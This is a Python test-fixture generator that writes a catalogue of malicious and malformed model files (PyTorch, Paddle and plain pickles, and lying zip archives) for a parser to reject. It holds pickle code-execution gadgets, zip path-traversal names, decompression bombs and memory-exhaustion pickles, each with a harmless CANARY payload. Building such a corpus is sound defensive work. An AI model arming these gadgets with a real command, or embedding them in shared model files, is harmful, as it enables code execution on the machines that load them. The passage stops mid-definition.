"""The bad-file catalogue: hostile and broken model files, each of which lstmcount must refuse.

A model file from the internet is untrusted input. Every file this script writes is one attack
or one corruption, and ``lstmcount inspect FILE`` (and ``lstmcount FILE``) must refuse it with
the usual single line ``lstmcount: error: FILE: what is wrong`` and exit 2: no traceback, no
output, bounded time and memory, and nothing from the file ever run.

The malicious pickles each try to create a file named ``CANARY`` in the current directory
(``os.system('touch CANARY')``, ``open('CANARY', 'w')``, ...): under an unrestricted unpickler
(``pickle.load``, ``torch.load(weights_only=False)``, ``numpy.load(allow_pickle=True)``) every
one of them creates it, so its absence after lstmcount has read the file proves nothing ran.
Each case differs from a valid file of its format (the baselines, written with ``--baselines``)
by its attack alone, so that a reader which missed the attack would accept the file.

Everything is written by hand from the formats' specifications (pickle opcodes, zip headers,
deflate blocks, protobuf fields, msgpack, .npy headers), with the standard library only; h5py
writes the HDF5 files. No framework is imported. The output is deterministic: fixed zip
timestamps, seeded random bytes, hand-built compressed streams (no zlib output is stored).

Usage::

    python tests/badfiles/make.py [OUTDIR]              # the catalogue (default tests/badfiles/files)
    python tests/badfiles/make.py --baselines OUTDIR    # the valid files the cases are built from

A case's companion files (an ONNX model's external data) are named ``<case>.data``.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import random
import struct
import sys
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
#: what each malicious payload runs: a shell command, and Python source
SHELL = "touch CANARY"
SOURCE = "open('CANARY', 'w').close()"


@dataclass(frozen=True)
class Link:
    """A symbolic link to ``target`` (written as a link, never followed)."""

    target: str


Output = bytes | dict[str, "bytes | Link"]
#: case file name -> (one-line description, builder)
CASES: dict[str, tuple[str, Callable[[], Output]]] = {}
#: baseline file name -> (parameters the model has, builder)
BASELINES: dict[str, tuple[int, Callable[[], bytes]]] = {}


def case(name: str) -> Callable[[Callable[[], Output]], Callable[[], Output]]:
    """Register a case; its docstring says the attack in one line."""

    def register(build: Callable[[], Output]) -> Callable[[], Output]:
        assert name not in CASES, name
        CASES[name] = ((build.__doc__ or "").strip(), build)
        return build

    return register


def baseline(name: str, params: int) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Register a valid file that cases are built from, and the parameter count of its model."""

    def register(build: Callable[[], bytes]) -> Callable[[], bytes]:
        BASELINES[name] = (params, build)
        return build

    return register


# ---------------------------------------------------------------------------------------------
# pickle opcodes


def uni(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def num(n: int) -> bytes:
    """The smallest integer opcode for ``n``."""
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    if -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    if len(raw) < 256:
        return b"\x8a" + bytes([len(raw)]) + raw
    return b"\x8b" + struct.pack("<i", len(raw)) + raw


def glob(module: str, name: str) -> bytes:
    """GLOBAL: the unpickler imports ``module`` and takes ``name`` from it."""
    return b"c" + f"{module}\n{name}\n".encode()


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): module and name from the stack."""
    return uni(module) + uni(name) + b"\x93"


def tup(*items: bytes) -> bytes:
    """A tuple of the items."""
    return b")" if not items else b"(" + b"".join(items) + b"t"


def call(fn: bytes, *args: bytes) -> bytes:
    """REDUCE: ``fn(*args)``."""
    return fn + tup(*args) + b"R"


def lst(*items: bytes) -> bytes:
    """A list of the items."""
    return b"]" + (b"(" + b"".join(items) + b"e" if items else b"")


def dct(*pairs: tuple[bytes, bytes]) -> bytes:
    """A dict of the (key, value) opcodes."""
    return b"}" + (b"(" + b"".join(k + v for k, v in pairs) + b"u" if pairs else b"")


def put(index: int) -> bytes:
    """LONG_BINPUT."""
    return b"r" + struct.pack("<I", index)


def get(index: int) -> bytes:
    """LONG_BINGET."""
    return b"j" + struct.pack("<I", index)


FALSE, NONE, POP, BUILD, NEWOBJ, PERSID, STOP = b"\x89", b"N", b"0", b"b", b"\x81", b"Q", b"."


def proto(n: int = 2) -> bytes:
    """PROTO."""
    return b"\x80" + bytes([n])


def os_system() -> bytes:
    """``os.system('touch CANARY')``."""
    return call(glob("os", "system"), uni(SHELL))


#: the tensors of torch.nn.LSTM(3, 2): name, shape
LSTM = [("weight_ih_l0", (8, 3)), ("weight_hh_l0", (8, 2)), ("bias_ih_l0", (8,)), ("bias_hh_l0", (8,))]


def strides(shape: tuple[int, ...]) -> tuple[int, ...]:
    """C-contiguous strides in elements."""
    out, step = [], 1
    for n in reversed(shape):
        out.append(step)
        step *= n
    return tuple(reversed(out))


def numel(shape: tuple[int, ...]) -> int:
    """Elements of a shape."""
    n = 1
    for d in shape:
        n *= d
    return n


def storage_pid(key: str, count: int, legacy: bool = False) -> bytes:
    """The persistent id of a storage: ('storage', torch.FloatStorage, key, 'cpu', numel[, view])."""
    return tup(uni("storage"), glob("torch", "FloatStorage"), uni(key), uni("cpu"), num(count), *([NONE] * legacy))


def tensor(
    key: str,
    shape: tuple[int, ...],
    *,
    count: int | None = None,
    offset: int = 0,
    legacy: bool = False,
    hooks: bytes | None = None,
    pid: bytes | None = None,
) -> bytes:
    """``torch._utils._rebuild_tensor_v2(storage, offset, size, stride, False, OrderedDict())``."""
    size = tup(*(num(n) for n in shape))
    steps = tup(*(num(n) for n in strides(shape)))
    storage = (pid if pid is not None else storage_pid(key, numel(shape) if count is None else count, legacy)) + PERSID
    backward_hooks = call(glob("collections", "OrderedDict")) if hooks is None else hooks
    return call(glob("torch._utils", "_rebuild_tensor_v2"), storage, num(offset), size, steps, FALSE, backward_hooks)


def state_dict(entries: Iterable[tuple[str, bytes]]) -> bytes:
    """A pickled OrderedDict of the (name, value opcodes), as torch.save writes a state dict."""
    items = b"".join(uni(k) + v for k, v in entries)
    return proto() + call(glob("collections", "OrderedDict")) + b"(" + items + b"u" + STOP


def lstm_entries(**overrides: bytes) -> list[tuple[str, bytes]]:
    """The LSTM's tensors as pickle entries, with any replaced."""
    return [(name, overrides.get(name, tensor(str(n), shape))) for n, (name, shape) in enumerate(LSTM)]


def lstm_pickle(**overrides: bytes) -> bytes:
    """The LSTM's state dict, pickled."""
    return state_dict(lstm_entries(**overrides))


def storage_bytes() -> dict[str, bytes]:
    """Each storage's data (float32 zeros), by key."""
    return {str(n): bytes(4 * numel(shape)) for n, (_, shape) in enumerate(LSTM)}


# ---------------------------------------------------------------------------------------------
# zip archives, written header by header so that any field can lie


@dataclass
class Member:
    """One zip member; the ``local_*``/``central_*`` fields override what the headers declare."""

    name: str
    content: bytes = b""
    #: 0 stored, 8 deflated (``stored`` then holds the compressed bytes), others as given
    method: int = 0
    stored: bytes | None = None
    size: int | None = None
    crc: int | None = None
    flags: int = 0
    local_name: str | None = None
    local_size: int | None = None
    local_csize: int | None = None
    central_size: int | None = None
    central_csize: int | None = None
    offset: int | None = None


def zip_bytes(members: Iterable[Member], *, entries: int | None = None, cut_directory: int = 0) -> bytes:
    """A zip archive of the members, dated 1980-01-01, made on Unix."""
    out = bytearray()
    central = bytearray()
    count = 0
    for m in members:
        count += 1
        data = m.content if m.stored is None else m.stored
        size = len(m.content) if m.size is None else m.size
        crc = zlib.crc32(m.content) if m.crc is None else m.crc
        offset = len(out)
        local_name = (m.name if m.local_name is None else m.local_name).encode()
        local = (
            *(20, m.flags, m.method, 0, 0x21, crc),
            len(data) if m.local_csize is None else m.local_csize,
            size if m.local_size is None else m.local_size,
            *(len(local_name), 0),
        )
        out += struct.pack("<4s5H3I2H", b"PK\x03\x04", *local) + local_name + data
        name = m.name.encode()
        entry = (
            *((3 << 8) | 20, 20, m.flags, m.method, 0, 0x21, crc),
            len(data) if m.central_csize is None else m.central_csize,
            size if m.central_size is None else m.central_size,
            *(len(name), 0, 0, 0, 0, 0o100644 << 16),
            offset if m.offset is None else m.offset,
        )
        central += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", *entry)
        central += name
    start = len(out)
    directory = bytes(central[: len(central) - cut_directory])
    n = count if entries is None else entries
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(central), start, 0)
    return bytes(out) + directory + eocd


def local_offset(members: list[Member], index: int) -> int:
    """Where zip_bytes puts the local header of ``members[index]``."""
    return sum(30 + len(m.name.encode()) + len(m.content if m.stored is None else m.stored) for m in members[:index])


def deflate_stored(data: bytes) -> bytes:
    """A raw deflate stream of stored blocks (no compression: the same bytes from any zlib)."""
    out = bytearray()
    blocks = [data[i : i + 65535] for i in range(0, len(data), 65535)] or [b""]
    for n, block in enumerate(blocks):
        out += bytes([n == len(blocks) - 1]) + struct.pack("<HH", len(block), len(block) ^ 0xFFFF) + block
    return bytes(out)


class Bits:
    """A deflate bit stream: values packed least significant bit first, Huffman codes most significant first."""

    def __init__(self) -> None:
        self.acc = 0
        self.n = 0
        self.out = bytearray()

    def put(self, value: int, count: int) -> None:
        self.acc |= value << self.n
        self.n += count
        while self.n >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.n -= 8

    def code(self, code: int, length: int) -> None:
        self.put(int(f"{code:0{length}b}"[::-1], 2), length)

    def bytes(self) -> bytes:
        return bytes(self.out) + (bytes([self.acc]) if self.n else b"")


def deflate_bomb(byte: int, size: int) -> bytes:
    """A raw deflate stream that expands to ``size`` copies of ``byte`` (about 1,000 to 1).

    One dynamic-Huffman block: the literal, then copies of it at distance 1, 258 bytes each, whose
    length and distance codes are one bit each; so every 258 bytes of output cost two bits of input.
    """
    assert byte == 0 or 11 <= byte <= 244, "zero runs around the literal must be 11 long or more"
    matches, rest = divmod(size - 1, 258)
    bits = Bits()
    bits.put(1, 1)  # BFINAL
    bits.put(2, 2)  # dynamic Huffman
    bits.put(286 - 257, 5)
    bits.put(2 - 1, 5)
    bits.put(18 - 4, 4)
    order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1]
    lengths = {18: 1, 1: 2, 2: 2}  # the code-length alphabet: 18 -> 0, 1 -> 10, 2 -> 11
    for symbol in order:
        bits.put(lengths.get(symbol, 0), 3)
    codes = {18: (0, 1), 1: (2, 2), 2: (3, 2)}

    def zeros(run: int) -> None:
        while run:
            take = min(138, run)
            if 0 < run - take < 11:
                take = run - 11
            bits.code(*codes[18])
            bits.put(take - 11, 7)
            run -= take

    zeros(byte)
    bits.code(*codes[2])  # the literal: length 2
    zeros(255 - byte)
    bits.code(*codes[2])  # end of block: length 2
    zeros(284 - 256)
    bits.code(*codes[1])  # length 258: length 1
    bits.code(*codes[1])  # distances 1 and 2: length 1 each
    bits.code(*codes[1])
    bits.code(2, 2)  # the literal (code 10)
    for _ in range(matches):
        bits.code(0, 1)  # length 258
        bits.code(0, 1)  # distance 1
    for _ in range(rest):
        bits.code(2, 2)
    bits.code(3, 2)  # end of block
    return bits.bytes()


def bomb_crc(byte: int, size: int) -> int:
    """The CRC-32 of ``size`` copies of ``byte``."""
    crc, chunk = 0, bytes([byte]) * 65536
    while size:
        take = min(size, len(chunk))
        crc = zlib.crc32(chunk[:take], crc)
        size -= take
    return crc


def torch_members(pickled: bytes, root: str = "archive", data: dict[str, bytes] | None = None) -> list[Member]:
    """The members of a torch.save archive: data.pkl, byteorder, one member per storage, version."""
    storages = storage_bytes() if data is None else data
    return [
        Member(f"{root}/data.pkl", pickled),
        Member(f"{root}/byteorder", b"little"),
        *(Member(f"{root}/data/{key}", raw) for key, raw in storages.items()),
        Member(f"{root}/version", b"3\n"),
    ]


def torch_zip(pickled: bytes, root: str = "archive", data: dict[str, bytes] | None = None) -> bytes:
    """A torch.save zip archive holding this data.pkl."""
    return zip_bytes(torch_members(pickled, root, data))


@baseline("lstm.pt", params=56)
def lstm_pt() -> bytes:
    """torch.nn.LSTM(3, 2).state_dict() in torch.save's zip layout."""
    return torch_zip(lstm_pickle())


# ---------------------------------------------------------------------------------------------
# malicious pickles


@case("pickle_os_system.pt")
def _() -> Output:
    """data.pkl calls os.system('touch CANARY') through GLOBAL and REDUCE."""
    return torch_zip(proto() + os_system() + STOP)


@case("pickle_posix_system.pt")
def _() -> Output:
    """data.pkl calls posix.system, the name os.system pickles under on Linux."""
    return torch_zip(proto() + call(glob("posix", "system"), uni(SHELL)) + STOP)


@case("pickle_stack_global.pt")
def _() -> Output:
    """A protocol-4 data.pkl that names os.system with STACK_GLOBAL."""
    return torch_zip(proto(4) + stack_global("os", "system") + tup(uni(SHELL)) + b"R" + STOP)


@case("pickle_stack_global_dotted.pt")
def _() -> Output:
    """STACK_GLOBAL with a dotted name ('os', 'path.os.system'): protocol 4 walks the attributes."""
    return torch_zip(proto(4) + stack_global("os", "path.os.system") + tup(uni(SHELL)) + b"R" + STOP)


@case("pickle_inst_opcode.pt")
def _() -> Output:
    """The protocol-0 INST opcode, which imports os.system and calls it with the marked arguments."""
    return torch_zip(b"(" + b"V" + SHELL.encode() + b"\n" + b"ios\nsystem\n" + STOP)


@case("pickle_obj_opcode.pt")
def _() -> Output:
    """The protocol-1 OBJ opcode, which calls the marked os.system with the rest of the mark."""
    return torch_zip(b"(" + glob("os", "system") + uni(SHELL) + b"o" + STOP)


@case("pickle_newobj_partial.pt")
def _() -> Output:
    """NEWOBJ builds functools.partial(os.system, 'touch CANARY') through __new__; REDUCE calls it."""
    fn = glob("functools", "partial") + tup(glob("os", "system"), uni(SHELL)) + NEWOBJ
    return torch_zip(proto() + fn + tup() + b"R" + STOP)


@case("pickle_build_setstate.pt")
def _() -> Output:
    """BUILD sets an allowed OrderedDict's __setstate__ to os.system; a second BUILD calls it."""
    od = call(glob("collections", "OrderedDict"))
    first = tup(NONE, dct((uni("__setstate__"), glob("os", "system")))) + BUILD
    return torch_zip(proto() + od + first + uni(SHELL) + BUILD + STOP)


@case("pickle_subprocess_popen.pt")
def _() -> Output:
    """data.pkl runs subprocess.Popen(['touch', 'CANARY'])."""
    return torch_zip(proto() + call(glob("subprocess", "Popen"), lst(uni("touch"), uni("CANARY"))) + STOP)


@case("pickle_builtins_eval.pt")
def _() -> Output:
    """data.pkl runs builtins.eval on source that opens CANARY."""
    return torch_zip(proto() + call(glob("builtins", "eval"), uni(SOURCE)) + STOP)


@case("pickle_builtins_exec.pt")
def _() -> Output:
    """data.pkl runs builtins.exec on source that opens CANARY."""
    return torch_zip(proto() + call(glob("builtins", "exec"), uni(SOURCE)) + STOP)


@case("pickle_builtins_open.pt")
def _() -> Output:
    """data.pkl calls builtins.open('CANARY', 'w'), creating the file without running code."""
    return torch_zip(proto() + call(glob("builtins", "open"), uni("CANARY"), uni("w")) + STOP)


@case("pickle_builtins_getattr.pt")
def _() -> Output:
    """getattr(__import__('os'), 'system')('touch CANARY'): os.system reached without a GLOBAL naming it."""
    os_module = call(glob("builtins", "__import__"), uni("os"))
    system = glob("builtins", "getattr") + tup(os_module, uni("system")) + b"R"
    return torch_zip(proto() + system + tup(uni(SHELL)) + b"R" + STOP)


@case("pickle_builtin_import.pt")
def _() -> Output:
    """__builtin__.__import__ (the Python 2 name the unpickler maps to builtins) fetches os, then os.system."""
    os_module = call(glob("__builtin__", "__import__"), uni("os")) + put(0) + POP
    system = glob("__builtin__", "getattr") + tup(get(0), uni("system")) + b"R"
    return torch_zip(proto() + os_module + system + tup(uni(SHELL)) + b"R" + STOP)


@case("pickle_importlib.pt")
def _() -> Output:
    """importlib.import_module('os') (named first), then getattr of its system."""
    os_module = call(glob("importlib", "import_module"), uni("os")) + put(0) + POP
    system = glob("builtins", "getattr") + tup(get(0), uni("system")) + b"R"
    return torch_zip(proto() + os_module + system + tup(uni(SHELL)) + b"R" + STOP)


@case("pickle_runpy.pt")
def _() -> Output:
    """runpy._run_code(source, {}) executes the source like a script."""
    return torch_zip(proto() + call(glob("runpy", "_run_code"), uni(SOURCE), dct()) + STOP)


@case("pickle_code_object.pt")
def _() -> Output:
    """types.FunctionType(compile(source), {})(): a code object built and called."""
    code = call(glob("builtins", "compile"), uni(SOURCE), uni("<pickle>"), uni("exec"))
    fn = glob("types", "FunctionType") + tup(code, dct()) + b"R"
    return torch_zip(proto() + fn + tup() + b"R" + STOP)


@case("pickle_copyreg_reconstructor.pt")
def _() -> Output:
    """copyreg._reconstructor(Popen, Popen, [...]) calls Popen.__init__ on a bare instance."""
    popen = glob("subprocess", "Popen")
    args = lst(uni("touch"), uni("CANARY"))
    return torch_zip(proto() + call(glob("copyreg", "_reconstructor"), popen, popen, args) + STOP)


@case("pickle_functools_partial.pt")
def _() -> Output:
    """functools.partial(builtins.exec, source), then called with no arguments."""
    fn = call(glob("functools", "partial"), glob("builtins", "exec"), uni(SOURCE))
    return torch_zip(proto() + fn + tup() + b"R" + STOP)


@case("pickle_numpy_runstring.pt")
def _() -> Output:
    """numpy.testing._private.utils.runstring(source, {}): a gadget inside an allowlisted package."""
    return torch_zip(proto() + call(glob("numpy.testing._private.utils", "runstring"), uni(SOURCE), dct()) + STOP)


@case("pickle_in_rebuild_args.pt")
def _() -> Output:
    """An otherwise valid state dict whose first tensor's backward_hooks argument is os.system(...)."""
    return torch_zip(lstm_pickle(weight_ih_l0=tensor("0", (8, 3), hooks=os_system())))


@case("pickle_in_persistent_id.pt")
def _() -> Output:
    """A valid state dict whose first storage's persistent id holds os.system(...) as its location."""
    pid = tup(uni("storage"), glob("torch", "FloatStorage"), uni("0"), os_system(), num(24))
    return torch_zip(lstm_pickle(weight_ih_l0=tensor("0", (8, 3), pid=pid)))


@case("pickle_after_state_dict.pt")
def _() -> Output:
    """A valid state dict, then a second value: os.system(...) pickled after the last tensor."""
    entries = [*lstm_entries(), ("_extra", os_system())]
    return torch_zip(state_dict(entries))


def lstm_module() -> bytes:
    """torch.save(model) of an LSTM: the module class, NEWOBJ, then BUILD with its __dict__."""
    params = call(glob("collections", "OrderedDict")) + b"(" + b"".join(uni(k) + v for k, v in lstm_entries()) + b"u"
    attrs = dct(
        (uni("training"), b"\x88"),
        (uni("_parameters"), params),
        (uni("_forward_hooks"), os_system()),
        (uni("mode"), uni("LSTM")),
        (uni("input_size"), num(3)),
        (uni("hidden_size"), num(2)),
    )
    return proto() + glob("torch.nn.modules.rnn", "LSTM") + tup() + NEWOBJ + attrs + BUILD + STOP


@case("pickle_whole_module.pt")
def _() -> Output:
    """torch.save(model): a whole torch.nn.modules.rnn.LSTM, whose state also calls os.system."""
    return torch_zip(lstm_module())


@case("pickle_main_class.pt")
def _() -> Output:
    """A class from __main__ (the training script's own model), with os.system in its state."""
    attrs = dct((uni("_parameters"), call(glob("collections", "OrderedDict"))), (uni("hook"), os_system()))
    return torch_zip(proto() + glob("__main__", "Net") + tup() + NEWOBJ + attrs + BUILD + STOP)


@case("pickle_malicious.pdparams")
def _() -> Output:
    """A Paddle .pdparams (a plain pickle of NumPy arrays) whose second entry calls posix.system."""
    array = numpy_array((8, 3))
    return proto(3) + dct((uni("lstm.weight_ih_l0"), array), (uni("lstm.weight_hh_l0"), posix_system())) + STOP


def posix_system() -> bytes:
    """``posix.system('touch CANARY')``."""
    return call(glob("posix", "system"), uni(SHELL))


def numpy_array(shape: tuple[int, ...], dtype: str = "f4") -> bytes:
    """A float32 ndarray as pickle protocol 2 writes it (numpy.core.multiarray._reconstruct, then BUILD)."""
    new = call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), tup(num(0)), b"C\x01b")
    descr = call(glob("numpy", "dtype"), uni(dtype), FALSE, b"\x88")
    descr += tup(num(3), uni("<"), NONE, NONE, NONE, num(-1), num(-1), num(0)) + BUILD
    size = tup(*(num(n) for n in shape))
    raw = bytes(4 * numel(shape))
    data = b"C" + bytes([len(raw)]) + raw if len(raw) < 256 else b"B" + struct.pack("<I", len(raw)) + raw
    return new + tup(num(1), size, descr, FALSE, data) + BUILD


@baseline("lstm.pdparams", params=56)
def lstm_pdparams() -> bytes:
    """A Paddle LSTM state dict as paddle.save writes it: NumPy arrays and the name map."""
    names = [("weight_ih_l0", (8, 3)), ("weight_hh_l0", (8, 2)), ("bias_ih_l0", (8,)), ("bias_hh_l0", (8,))]
    entries = [(uni(f"lstm.{n}"), numpy_array(s)) for n, s in names]
    mapping = dct(*((uni(f"lstm.{n}"), uni(f"lstm_0.w_{i}")) for i, (n, _) in enumerate(names)))
    return proto(3) + dct(*entries, (uni("StructuredToParameterName@@"), mapping)) + STOP


@case("pickle_numpy_object_array.pdparams")
def _() -> Output:
    """A pickled NumPy object array (dtype 'O') whose element is os.system(...)."""
    new = call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), tup(num(0)), b"C\x01b")
    descr = call(glob("numpy", "dtype"), uni("O8"), FALSE, b"\x88")
    descr += tup(num(3), uni("|"), NONE, NONE, NONE, num(-1), num(-1), num(63)) + BUILD
    array = new + tup(num(1), tup(num(1)), descr, FALSE, lst(os_system())) + BUILD
    return proto() + dct((uni("lstm.weight_ih_l0"), array)) + STOP


@case("pickle_truncated.pdparams")
def _() -> Output:
    """A Paddle .pdparams pickle cut off in the middle."""
    full = lstm_pdparams()
    return full[: len(full) // 2]


@case("pickle_protocol0.pkl")
def _() -> Output:
    """A protocol-0 pickle (plain text: GLOBAL 'os system') calling os.system."""
    return b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR."


@case("pickle_plain_builtins_exec.pkl")
def _() -> Output:
    """A plain protocol-2 pickle file (no archive) running builtins.exec."""
    return proto() + call(glob("builtins", "exec"), uni(SOURCE)) + STOP


# ---------------------------------------------------------------------------------------------
# the legacy torch.save format: five pickles, then each storage's size and data

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def legacy(
    magic: bytes | None = None,
    info: bytes | None = None,
    records: bytes | None = None,
    sizes: dict[str, int] | None = None,
) -> bytes:
    """A legacy torch.save stream of the LSTM: magic, protocol 1001, sys_info, records, keys, storages."""
    if magic is None:
        magic = proto() + b"\x8a\x0a" + LEGACY_MAGIC.to_bytes(10, "little") + STOP
    version = proto() + num(1001) + STOP
    if info is None:
        types = dct((uni("short"), num(2)), (uni("int"), num(4)), (uni("long"), num(4)))
        info = proto() + dct(
            (uni("protocol_version"), num(1001)), (uni("little_endian"), b"\x88"), (uni("type_sizes"), types)
        )
        info += STOP
    if records is None:
        records = state_dict(
            (name, tensor(str(n), shape, legacy=True, count=(sizes or {}).get(str(n))))
            for n, (name, shape) in enumerate(LSTM)
        )
    keys = proto() + lst(*(uni(str(n)) for n in range(len(LSTM)))) + STOP
    data = b"".join(
        struct.pack("<q", (sizes or {}).get(str(n), numel(shape))) + bytes(4 * numel(shape))
        for n, (_, shape) in enumerate(LSTM)
    )
    return magic + version + info + records + keys + data


@baseline("lstm_legacy.pt", params=56)
def lstm_legacy() -> bytes:
    """torch.nn.LSTM(3, 2).state_dict() in the legacy format (_use_new_zipfile_serialization=False)."""
    return legacy()


@case("legacy_sys_info_global.pt")
def _() -> Output:
    """A legacy checkpoint whose sys_info header pickle calls os.system."""
    return legacy(info=proto() + os_system() + STOP)


@case("legacy_magic_pickle_global.pt")
def _() -> Output:
    """A legacy checkpoint whose first pickle pushes the magic number, then calls os.system before STOP."""
    magic = proto() + b"\x8a\x0a" + LEGACY_MAGIC.to_bytes(10, "little") + POP + os_system() + POP
    return legacy(magic=magic + b"\x8a\x0a" + LEGACY_MAGIC.to_bytes(10, "little") + STOP)


@case("legacy_records_global.pt")
def _() -> Output:
    """A legacy checkpoint whose records pickle calls builtins.exec."""
    return legacy(records=proto() + call(glob("builtins", "exec"), uni(SOURCE)) + STOP)


@case("legacy_storage_beyond_file.pt")
def _() -> Output:
    """A legacy checkpoint whose first storage declares 10**12 elements (4 TB) in a 1 KB file."""
    big = 10**12
    return legacy(
        records=state_dict(
            [("weight_ih_l0", tensor("0", (big // 3, 3), legacy=True, count=big))]
            + [(name, tensor(str(n), shape, legacy=True)) for n, (name, shape) in enumerate(LSTM) if n]
        ),
        sizes={"0": big},
    )


@case("legacy_truncated.pt")
def _() -> Output:
    """A legacy checkpoint cut off inside its records pickle."""
    full = legacy()
    return full[: len(full) // 3]


# ---------------------------------------------------------------------------------------------
# pickle bombs: bounded time and memory required


@case("pickle_deep_nesting.pkl")
def _() -> Output:
    """20,000 lists nested in one another (two bytes each), under a state dict's key."""
    depth = 20_000
    return proto() + b"}" + uni("weight") + b"]" * depth + b"a" * (depth - 1) + b"s" + STOP


@case("pickle_self_reference.pt")
def _() -> Output:
    """A list that contains itself (through the memo), under a state dict's key."""
    loop = b"]" + put(0) + get(0) + b"a"
    return torch_zip(proto() + dct((uni("weight"), loop)) + STOP)


@case("pickle_billion_laughs.pt")
def _() -> Output:
    """Nine levels of lists, each holding the one below ten times: 10**9 references in 400 bytes."""
    body = b"]" + put(0) + POP
    for level in range(1, 10):
        body += b"]" + b"(" + get(level - 1) * 10 + b"e" + put(level) + POP
    return torch_zip(proto() + body + dct((uni("weight"), get(9))) + STOP)


@case("pickle_memo_index_huge.pt")
def _() -> Output:
    """LONG_BINPUT at index 2**25: the C unpickler grows its memo table to 2**26 pointers (512 MiB)."""
    return torch_zip(proto() + NONE + put(2**25) + POP + lstm_pickle()[2:])


@case("pickle_binbytes8_overflow.pt")
def _() -> Output:
    """BINBYTES8 declaring 2**64 - 1 bytes (more than a signed size holds)."""
    return torch_zip(proto(4) + b"\x8e" + b"\xff" * 8 + STOP)


@case("pickle_binbytes8_huge.pt")
def _() -> Output:
    """BINBYTES8 declaring 2**40 bytes: the C unpickler allocates the declared size before reading."""
    return torch_zip(proto(4) + b"\x8e" + struct.pack("<Q", 2**40) + STOP)


@case("pickle_binunicode8_huge.pt")
def _() -> Output:
    """BINUNICODE8 declaring 2**40 bytes of text in a 30-byte member."""
    return torch_zip(proto(4) + b"\x8d" + struct.pack("<Q", 2**40) + STOP)


@case("pickle_frame_overflow.pt")
def _() -> Output:
    """A protocol-4 FRAME declaring 2**64 - 1 bytes."""
    return torch_zip(proto(4) + b"\x95" + b"\xff" * 8 + STOP)


@case("pickle_long4_huge_length.pt")
def _() -> Output:
    """LONG4 declaring a 2 GiB integer with no bytes behind it."""
    return torch_zip(proto() + b"\x8b" + struct.pack("<i", 2**31 - 1) + STOP)


@case("pickle_long4_huge_int_in_shape.pt")
def _() -> Output:
    """A valid state dict except that a tensor's size is a 10,000-digit integer (LONG4)."""
    huge = 10**10_000
    return torch_zip(lstm_pickle(bias_hh_l0=tensor("3", (huge,), count=8)))


@case("pickle_huge_storage_numel.pt")
def _() -> Output:
    """A storage whose element count is a 10,000-digit integer."""
    return torch_zip(lstm_pickle(bias_hh_l0=tensor("3", (8,), count=10**10_000)))


# ---------------------------------------------------------------------------------------------
# zip archives that lie


@case("zip_member_escapes.pt")
def _() -> Output:
    """A torch archive with a member named archive/../../CANARY."""
    return zip_bytes([*torch_members(lstm_pickle()), Member("archive/../../CANARY", b"x")])


@case("zip_member_absolute.pt")
def _() -> Output:
    """A torch archive with a member named /etc/CANARY."""
    return zip_bytes([*torch_members(lstm_pickle()), Member("/etc/CANARY", b"x")])


@case("zip_member_drive_letter.pt")
def _() -> Output:
    """A torch archive with a member named C:CANARY (a Windows drive-relative path)."""
    return zip_bytes([*torch_members(lstm_pickle()), Member("C:CANARY", b"x")])


@case("zip_member_backslash_escape.pt")
def _() -> Output:
    """A torch archive with a member named archive\\..\\..\\CANARY."""
    return zip_bytes([*torch_members(lstm_pickle()), Member("archive\\..\\..\\CANARY", b"x")])


@case("zip_local_name_differs.pt")
def _() -> Output:
    """data.pkl's local header names it ../data.pkl while the central directory says archive/data.pkl."""
    members = torch_members(lstm_pickle())
    members[0].local_name = "../data.pkl"
    return zip_bytes(members)


@case("zip_local_size_lies.pt")
def _() -> Output:
    """data.pkl's local header declares 9,999 bytes; the central directory the true size."""
    members = torch_members(lstm_pickle())
    members[0].local_size = members[0].local_csize = 9_999
    return zip_bytes(members)


@case("zip_stored_sizes_differ.pt")
def _() -> Output:
    """A stored (uncompressed) data.pkl whose central sizes differ: 400 bytes stored, 40,000 declared."""
    members = torch_members(lstm_pickle())
    members[0].central_size = 40_000
    return zip_bytes(members)


@case("zip_size_beyond_file.pt")
def _() -> Output:
    """A storage member whose central directory declares 2 GiB of stored bytes in a 2 KB file."""
    members = torch_members(lstm_pickle())
    members[2].central_size = members[2].central_csize = 2**31
    return zip_bytes(members)


@case("zip_offset_beyond_file.pt")
def _() -> Output:
    """data.pkl's local header offset points 1 MB past the end of the file."""
    members = torch_members(lstm_pickle())
    members[0].offset = 2**20
    return zip_bytes(members)


@case("zip_overlapping_members.pt")
def _() -> Output:
    """Two central entries (data/0 and data/1) that point at the same local header and bytes."""
    members = torch_members(lstm_pickle())
    members[3].offset = local_offset(members, 2)
    return zip_bytes(members)


@case("zip_deflate_bomb.pt")
def _() -> Output:
    """data.pkl deflated from 10 MB of zeros into 10 KB (ratio 1,000), sizes declared honestly."""
    size = 1 + 258 * 40_000
    members = torch_members(lstm_pickle())
    members[0] = Member("archive/data.pkl", method=8, stored=deflate_bomb(0, size), size=size, crc=bomb_crc(0, size))
    return zip_bytes(members)


@case("zip_deflate_size_lie.pt")
def _() -> Output:
    """data.pkl declares 400 bytes but its deflate stream expands to 10 MB (a bomb behind a lying size)."""
    size = 1 + 258 * 40_000
    bomb = deflate_bomb(0, size)
    members = torch_members(lstm_pickle())
    members[0] = Member("archive/data.pkl", method=8, stored=bomb, size=400, crc=bomb_crc(0, size))
    return zip_bytes(members)


@case("zip_entry_count_lies.pt")
def _() -> Output:
    """The end-of-directory record declares 65,535 members; the directory holds seven."""
    return zip_bytes(torch_members(lstm_pickle()), entries=65_535)


@case("zip_truncated_directory.pt")
